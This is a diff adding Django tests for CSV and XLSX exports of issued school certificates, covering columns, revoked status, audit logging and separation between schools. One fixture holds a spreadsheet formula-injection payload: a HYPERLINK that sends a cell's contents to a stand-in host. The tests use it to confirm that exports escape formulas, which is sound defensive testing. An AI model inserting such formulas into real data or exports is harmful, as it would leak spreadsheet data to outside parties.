@@ -485,3 +485,62 @@ def test_each_role_sees_only_its_certificate_menu_entries(school_user, fabian, a
     client.force_login(kim)
     assert not any(entry in client.get("/").text for entry in entries)
     assert client.get("/bescheinigungen/").status_code == 404
+
+
+# --- export of the list of issued certificates ------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+
+
+def _export(client, fmt):
+    import csv
+    import io
+
+    import openpyxl
+
+    response = client.get(f"/bescheinigungen/export.{fmt}")
+    assert response.status_code == 200
+    if fmt == "csv":
+        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_certificate_export_has_the_certificates_the_page_lists(certificate, school_ready, client):
+    services.revoke(school_ready, certificate, "Schule gewechselt")
+    second = services.issue_from_snapshot(school_ready, "S-1")
+    client.force_login(school_ready)
+    page = client.get("/bescheinigungen/")
+    shown = [c.certificate_id for c in page.context["certificates"]]
+    assert sorted(shown) == sorted([certificate.certificate_id, second.certificate_id])
+    assert "/bescheinigungen/export.xlsx" in page.text
+    rows = _export(client, "csv")
+    assert rows[0] == ["Nummer", "Name", "Geburtsdatum", "ausgestellt", "gültig bis", "Status"]
+    assert [row[0] for row in rows[1:]] == shown
+    by_id = {row[0]: row for row in rows[1:]}
+    assert by_id[certificate.certificate_id][1:3] == ["Yılmaz, Elif", "14.03.2015"]
+    assert by_id[certificate.certificate_id][5] == f"widerrufen ab {_de(_today())}"
+    assert by_id[second.certificate_id][5] == "gültig"
+    assert [row[0] for row in _export(client, "xlsx")[1:]] == shown
+    assert client.get("/bescheinigungen/export.doc").status_code == 404
+
+
+def test_the_certificate_export_is_audited_escapes_formulas_and_has_no_other_school(
+    certificate, school_ready, other_school_user, fabian, client
+):
+    from missimo.audit.models import AuditAction
+
+    other = services.issue_from_snapshot(other_school_user, "S-3")
+    Certificate.objects.update(nachname=FORMULA)
+    client.force_login(school_ready)
+    rows = _export(client, "csv")
+    assert [row[0] for row in rows[1:]] == [certificate.certificate_id]
+    assert rows[1][1] == f"'{FORMULA}, Elif"
+    assert _export(client, "xlsx")[1][1] == f"'{FORMULA}, Elif"
+    event = AuditEvent.objects.filter(
+        action=AuditAction.EXPORT, object_type="schulbescheinigung_liste"
+    ).first()
+    assert event.actor_username == "sabine" and event.details["certificates"] == [certificate.certificate_id]
+    assert other.certificate_id not in str(event.details)
+    client.force_login(fabian)
+    assert client.get("/bescheinigungen/export.csv").status_code == 404
